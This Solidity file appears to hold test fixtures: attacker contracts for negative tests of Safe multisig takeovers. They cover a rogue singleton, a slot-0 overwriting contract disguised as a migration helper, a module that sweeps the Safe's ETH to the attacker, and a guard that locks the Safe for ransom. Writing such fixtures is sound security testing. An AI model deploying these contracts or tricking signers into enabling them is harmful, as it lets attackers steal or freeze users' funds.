// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Malicious contracts for negative tests of Safe takeovers: each gives the attacker control of a Safe that a
/// signer was tricked into changing, in the ways the largest multisig losses happened.

/// A Safe singleton written by an attacker. Once a Safe's proxy points here, no owner signature is ever checked
/// again: the attacker moves whatever the Safe holds, and every other call does nothing.
contract TakeoverSingleton {
    address public immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    /// Runs any call as the Safe, for the attacker only.
    function sweep(address to, uint256 value, bytes calldata data) external {
        require(msg.sender == attacker, "not the attacker");
        (bool ok,) = to.call{value: value}(data);
        require(ok, "sweep failed");
    }

    receive() external payable {}
}

/// Looks like a migration helper; delegate-called by a Safe, it overwrites the Safe's slot 0, its singleton.
contract SingletonSwapper {
    function migrate(address singleton) external {
        assembly {
            sstore(0, singleton)
        }
    }
}

interface IModuleManager {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external
        returns (bool success);
}

/// A module that takes everything: once a Safe enables it, it sends the Safe's ETH to the attacker, no owner asked.
contract SweepModule {
    address public immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function sweep(address safe) external {
        require(IModuleManager(safe).execTransactionFromModule(attacker, safe.balance, "", 0), "sweep failed");
    }
}

interface ITransactionGuard {
    function checkTransaction(
        address to,
        uint256 value,
        bytes memory data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address payable refundReceiver,
        bytes memory signatures,
        address msgSender
    ) external;

    function checkAfterExecution(bytes32 hash, bool success) external;
}

/// A transaction guard that refuses every transaction: once set, the Safe can never execute again (a ransom lock).
contract LockGuard is ITransactionGuard {
    function checkTransaction(
        address,
        uint256,
        bytes memory,
        uint8,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes memory,
        address
    ) external pure {
        revert("locked");
    }

    function checkAfterExecution(bytes32, bool) external pure {}

    function supportsInterface(bytes4 interfaceId) external pure returns (bool) {
        return interfaceId == type(ITransactionGuard).interfaceId || interfaceId == 0x01ffc9a7;
    }
}
